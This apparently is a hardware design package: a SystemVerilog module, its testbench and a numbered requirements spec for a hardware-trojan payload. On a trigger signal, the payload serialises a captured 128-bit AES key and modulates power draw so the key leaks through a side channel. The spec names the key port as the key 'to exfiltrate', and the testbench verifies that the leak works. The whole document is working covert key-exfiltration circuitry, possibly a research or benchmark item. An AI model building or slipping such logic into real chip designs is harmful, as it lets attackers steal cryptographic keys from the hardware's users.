// File: rtl/aes_key_leak_payload.sv
// aes_key_leak_payload
//   Serialises a captured 128-bit key MSB first, one bit per cycle, and
//   drives a power-modulation word (LFSR value on 1-bits, zero on 0-bits).
//   Frames repeat with an idle gap while the trigger level stays high.
//
//   state | meaning
//   IDLE  | waiting for tj_trig, outputs quiet, frame_cnt held
//   LOAD  | capture key, seed LFSR, clear bit index (1 cycle)
//   LEAK  | present one key bit per cycle for 128 cycles
//   GAP   | GAP_CYCLES quiet cycles between frames
//
// Ports
//   clk        : rising-edge clock
//   rst        : synchronous active-high reset
//   tj_trig    : activation level
//   key        : key to serialise, sampled only in LOAD
//   leak_valid : a key bit is being presented
//   leak_bit   : presented key bit
//   leak_mod   : LFSR value when leak_bit=1, else 0
//   bit_idx    : index of presented bit (0 = key[127])
//   done_pulse : one-cycle pulse presented alongside bit 127
//   frame_cnt  : completed frames, saturating at 255
module aes_key_leak_payload #(
  parameter logic [15:0] LFSR_SEED  = 16'hACE1,
  parameter int unsigned GAP_CYCLES = 4
) (
  input  logic         clk,
  input  logic         rst,
  input  logic         tj_trig,
  input  logic [127:0] key,
  output logic         leak_valid,
  output logic         leak_bit,
  output logic [15:0]  leak_mod,
  output logic [6:0]   bit_idx,
  output logic         done_pulse,
  output logic [7:0]   frame_cnt
);

  typedef enum logic [1:0] {IDLE, LOAD, LEAK, GAP} state_t;

  localparam logic [7:0] GAP_LAST = 8'(GAP_CYCLES - 1);

  state_t        state;
  state_t        state_nxt;
  logic [127:0]  key_sr;
  logic [15:0]   lfsr;
  logic [15:0]   lfsr_nxt;
  logic [6:0]    idx;
  logic [7:0]    gap_cnt;
  logic          frame_end;
  logic          gap_end;

  assign lfsr_nxt  = {lfsr[14:0], lfsr[15] ^ lfsr[13] ^ lfsr[12] ^ lfsr[10]};
  assign frame_end = (state == LEAK) && (idx == 7'd127);
  assign gap_end   = (state == GAP) && (gap_cnt == 8'd0);

  always_ff @(posedge clk) begin
    if (rst) state <= IDLE;
    else     state <= state_nxt;
  end

  always_comb begin
    state_nxt = state;
    case (state)
      IDLE: if (tj_trig) state_nxt = LOAD;
      LOAD: state_nxt = LEAK;
      LEAK: if (frame_end) state_nxt = tj_trig ? GAP : IDLE;
      GAP:  if (gap_end)   state_nxt = tj_trig ? LOAD : IDLE;
      default: state_nxt = IDLE;
    endcase
  end

  // Outputs are registered from the LEAK-cycle contents, so the bit taken
  // from key_sr[127] and the LFSR value it is paired with appear together
  // one edge after the LEAK cycle that produced them.
  always_ff @(posedge clk) begin
    if (rst) begin
      key_sr     <= '0;
      lfsr       <= LFSR_SEED;
      idx        <= '0;
      gap_cnt    <= '0;
      leak_valid <= 1'b0;
      leak_bit   <= 1'b0;
      leak_mod   <= '0;
      bit_idx    <= '0;
      done_pulse <= 1'b0;
      frame_cnt  <= '0;
    end else begin
      leak_valid <= (state == LEAK);
      leak_bit   <= (state == LEAK) && key_sr[127];
      leak_mod   <= ((state == LEAK) && key_sr[127]) ? lfsr : 16'h0000;
      bit_idx    <= (state == LEAK) ? idx : 7'd0;
      done_pulse <= frame_end;

      case (state)
        LOAD: begin
          key_sr <= key;
          lfsr   <= LFSR_SEED;
          idx    <= 7'd0;
        end
        LEAK: begin
          key_sr <= {key_sr[126:0], key_sr[127]};
          lfsr   <= lfsr_nxt;
          idx    <= idx + 7'd1;  // 7-bit wrap takes 127 back to 0
          if (frame_end) begin
            gap_cnt <= GAP_LAST;
            if (frame_cnt != 8'hFF) frame_cnt <= frame_cnt + 8'd1;
          end
        end
        GAP: begin
          if (gap_cnt != 8'd0) gap_cnt <= gap_cnt - 8'd1;
        end
        default: ;
      endcase
    end
  end

endmodule

// File: tb/tb_aes_key_leak_payload.sv
module tb_aes_key_leak_payload;

  logic         clk;
  logic         rst;
  logic         tj_trig;
  logic [127:0] key;
  logic         leak_valid;
  logic         leak_bit;
  logic [15:0]  leak_mod;
  logic [6:0]   bit_idx;
  logic         done_pulse;
  logic [7:0]   frame_cnt;

  int checks   = 0;
  int failures = 0;

  localparam logic [127:0] K1 = 128'h000102030405060708090A0B0C0D0E0F;
  localparam logic [127:0] K2 = 128'hC0000000_00000000_00000000_0000A5A5;

  aes_key_leak_payload dut (
    .clk        (clk),
    .rst        (rst),
    .tj_trig    (tj_trig),
    .key        (key),
    .leak_valid (leak_valid),
    .leak_bit   (leak_bit),
    .leak_mod   (leak_mod),
    .bit_idx    (bit_idx),
    .done_pulse (done_pulse),
    .frame_cnt  (frame_cnt)
  );

  initial clk = 1'b0;
  always #5 clk = ~clk;

  task automatic tick();
    @(posedge clk);
    #1;
  endtask

  task automatic chk(input string tag, input logic [127:0] obs, input logic [127:0] exp);
    checks++;
    assert (obs === exp) else begin
      failures++;
      $error("FAIL %s observed=%0h expected=%0h", tag, obs, exp);
    end
  endtask

  function automatic logic [15:0] lfsr_step(input logic [15:0] v);
    return {v[14:0], v[15] ^ v[13] ^ v[12] ^ v[10]};
  endfunction

  function automatic logic [127:0] quiet(input logic [7:0] fc);
    return {94'd0, 1'b0, 1'b0, 16'h0000, 7'd0, 1'b0, fc};
  endfunction

  function automatic logic [127:0] outs();
    return {94'd0, leak_valid, leak_bit, leak_mod, bit_idx, done_pulse, frame_cnt};
  endfunction

  // Entered with bit 0 of a frame already presented. Scrambles the key
  // input mid-frame (must be ignored) and restores it at the last bit.
  task automatic run_frame(input logic [127:0] k, input int drop_at, input logic [7:0] fc_base);
    logic [15:0] m;
    logic        b;
    m = 16'hACE1;
    for (int i = 0; i < 128; i++) begin
      b = k[127 - i];
      chk($sformatf("valid[%0d]", i), {127'd0, leak_valid}, 128'd1);
      chk($sformatf("idx[%0d]", i), {121'd0, bit_idx}, 128'(i));
      chk($sformatf("bit[%0d]", i), {127'd0, leak_bit}, {127'd0, b});
      chk($sformatf("mod[%0d]", i), {112'd0, leak_mod}, {112'd0, (b ? m : 16'h0000)});
      chk($sformatf("done[%0d]", i), {127'd0, done_pulse}, {127'd0, (i == 127)});
      chk($sformatf("fcnt[%0d]", i), {120'd0, frame_cnt},
          {120'd0, (i == 127) ? fc_base + 8'd1 : fc_base});
      if (i == 10)      key = ~k;
      if (i == drop_at) tj_trig = 1'b0;
      if (i == 126)     key = k;
      m = lfsr_step(m);
      if (i < 127) tick();
    end
  endtask

  initial begin
    int dones;
    int budget;
    rst = 1'b1;
    tj_trig = 1'b1;
    key = K1;

    // Reset held with trigger high: everything stays quiet.
    for (int i = 0; i < 5; i++) begin
      tick();
      chk($sformatf("rst_hold[%0d]", i), outs(), quiet(8'd0));
    end

    rst = 1'b0;
    tick();  // IDLE -> LOAD
    chk("post_rst_e1", outs(), quiet(8'd0));
    tick();  // LOAD -> LEAK
    chk("post_rst_e2", outs(), quiet(8'd0));
    tick();  // bit 0 presented
    run_frame(K1, -1, 8'd0);

    // Trigger still high: 4 gap cycles plus the LOAD cycle, then frame 2.
    for (int i = 0; i < 5; i++) begin
      tick();
      chk($sformatf("gap[%0d]", i), outs(), quiet(8'd1));
    end
    tick();
    run_frame(K1, 40, 8'd1);

    // Trigger dropped at bit 40: frame finished, then stay idle.
    for (int i = 0; i < 12; i++) begin
      tick();
      chk($sformatf("idle_after_drop[%0d]", i), outs(), quiet(8'd2));
    end

    // LFSR sequence on a key with two leading ones, then reset at bit 50.
    key = K2;
    tj_trig = 1'b1;
    tick();
    tick();
    tick();
    chk("k2_bit0", {127'd0, leak_bit}, 128'd1);
    chk("k2_mod0", {112'd0, leak_mod}, {112'd0, 16'hACE1});
    tick();
    chk("k2_mod1", {112'd0, leak_mod}, {112'd0, 16'h59C3});
    for (int i = 2; i <= 50; i++) tick();
    chk("k2_idx50", {121'd0, bit_idx}, 128'd50);
    rst = 1'b1;
    tick();
    chk("abort_quiet", outs(), quiet(8'd0));
    rst = 1'b0;
    tick();
    chk("abort_load", outs(), quiet(8'd0));
    tick();
    tick();
    chk("restart_idx", {121'd0, bit_idx}, 128'd0);
    chk("restart_mod", {112'd0, leak_mod}, {112'd0, 16'hACE1});
    tick();
    chk("restart_mod1", {112'd0, leak_mod}, {112'd0, 16'h59C3});

    // Continuous trigger: frame counter saturation after 300 frames.
    rst = 1'b1;
    tick();
    rst = 1'b0;
    key = K1;
    tj_trig = 1'b1;
    dones = 0;
    budget = 0;
    while (dones < 300 && budget < 300 * 140) begin
      tick();
      budget++;
      if (done_pulse) begin
        dones++;
        if (dones == 1)   chk("sat_fc1", {120'd0, frame_cnt}, 128'd1);
        if (dones == 254) chk("sat_fc254", {120'd0, frame_cnt}, 128'd254);
        if (dones == 255) chk("sat_fc255", {120'd0, frame_cnt}, 128'd255);
      end
    end
    chk("sat_frames_seen", 128'(dones), 128'd300);
    chk("sat_fc_final", {120'd0, frame_cnt}, 128'd255);
    tick();
    chk("sat_done_single", {127'd0, done_pulse}, 128'd0);

    $display("TB_RESULT checks=%0d failures=%0d", checks, failures);
    $finish;
  end

endmodule

// File: doc/aes_key_leak_payload.md
AES_KEY_LEAK_PAYLOAD -- requirements
Module: aes_key_leak_payload

Interface
REQ-001 Parameter LFSR_SEED, default 16'hACE1, SHALL be the LFSR load value at frame start; it must be nonzero.
REQ-002 Parameter GAP_CYCLES, default 4, range 1..255, SHALL set the idle cycles between consecutive leak frames.
REQ-003 Port clk  input  1  SHALL be the rising-edge clock for all state.
REQ-004 Port rst  input  1  SHALL be the reset: synchronous, active-high.
REQ-005 Port tj_trig  input  1  SHALL be the activation level from the trigger stage; it is sticky upstream until rst.
REQ-006 Port key  input  128  SHALL be the AES key to exfiltrate.
REQ-007 Port leak_valid  output  1  SHALL be high while a key bit is presented.
REQ-008 Port leak_bit  output  1  SHALL be the current key bit, MSB first.
REQ-009 Port leak_mod  output  16  SHALL be the LFSR value when leak_bit=1, else 16'h0000 (power-modulation load).
REQ-010 Port bit_idx  output  7  SHALL be the index of the presented bit within the frame (0 = key[127]).
REQ-011 Port done_pulse  output  1  SHALL be a single-cycle pulse on completion of each 128-bit frame.
REQ-012 Port frame_cnt  output  8  SHALL count completed frames and saturate at 255.
REQ-013 All outputs SHALL be registered.

Function
REQ-014 The FSM SHALL have states IDLE, LOAD, LEAK and GAP.
REQ-015 IDLE: all outputs SHALL be 0 except frame_cnt (held); tj_trig=1 at an edge SHALL move the FSM to LOAD.
REQ-016 LOAD (1 cycle): key SHALL be captured into a 128-bit shift register, lfsr SHALL load LFSR_SEED, bit_idx SHALL be set to 0, and the FSM SHALL move to LEAK.
REQ-017 key SHALL be sampled only in LOAD; key changes at any other time SHALL be ignored until the next LOAD.
REQ-018 Latency: tj_trig sampled high at edge N in IDLE SHALL give leak_valid=1 with leak_bit=key[127] after edge N+2.
REQ-019 LEAK: each cycle the shift register SHALL rotate left by 1, so leak_bit = register MSB.
REQ-020 LEAK: each cycle bit_idx SHALL increment by 1.
REQ-021 LEAK: each cycle lfsr SHALL advance once.
REQ-022 LFSR SHALL be 16-bit Fibonacci: next = {lfsr[14:0], lfsr[15]^lfsr[13]^lfsr[12]^lfsr[10]}.
REQ-023 The LFSR SHALL hold its value outside LEAK.
REQ-024 leak_mod SHALL use the same-cycle lfsr value as the presented leak_bit.
REQ-025 After the cycle presenting bit_idx=127, done_pulse SHALL be 1 for exactly one cycle and frame_cnt SHALL increment unless it is 255.
REQ-026 After bit_idx=127, the FSM SHALL go to GAP if tj_trig=1, else to IDLE.
REQ-027 bit_idx SHALL wrap 127->0 and SHALL never exceed 127.
REQ-028 GAP: leak_valid, leak_bit and leak_mod SHALL be 0 for GAP_CYCLES cycles; the FSM SHALL then go to LOAD, re-sampling key and re-seeding the LFSR.
REQ-029 If tj_trig=0 when GAP ends, the FSM SHALL go to IDLE instead of LOAD.
REQ-030 If tj_trig falls mid-frame, the current frame SHALL complete all 128 bits before the FSM leaves LEAK (no partial frames).

Reset
REQ-031 rst=1 at an edge SHALL force IDLE and clear all outputs to 0, including frame_cnt, shift register, bit_idx and GAP counter; lfsr SHALL be set to LFSR_SEED.
REQ-032 rst SHALL take priority over tj_trig and every other event in the same cycle.
REQ-033 rst asserted mid-frame SHALL abort the frame with no done_pulse.
REQ-034 rst and tj_trig both high SHALL result in IDLE; with tj_trig still high, LOAD SHALL occur on the first edge after rst falls.

Verification
REQ-035 rst held 5 cycles with tj_trig=1 -> all outputs 0, no LOAD; release rst -> leak_valid=1 two edges later.
REQ-036 key=128'h000102030405060708090A0B0C0D0E0F, trigger -> leak_bit bits 0..7 = 0, bits 8..15 = 0000_0001, bit 127 = 1; done_pulse at bit 127; frame_cnt=1.
REQ-037 Default seed -> leak_mod on bit0 = 0 (key MSB 0); with key[127]=1 and key[126]=1 -> leak_mod = 16'hACE1 then 16'h59C3.
REQ-038 tj_trig dropped at bit_idx=40 -> bits 41..127 still emitted, done_pulse once, then IDLE, no GAP.
REQ-039 rst at bit_idx=50 -> next cycle all outputs 0, no done_pulse; re-trigger -> frame restarts at bit 0, leak_mod sequence restarts from 16'hACE1.
REQ-040 Continuous trigger, GAP_CYCLES=4 -> leak_valid low exactly 4 cycles plus 1 LOAD cycle between frames; identical bit sequence repeats; frame_cnt saturates at 255 after the 300th frame.
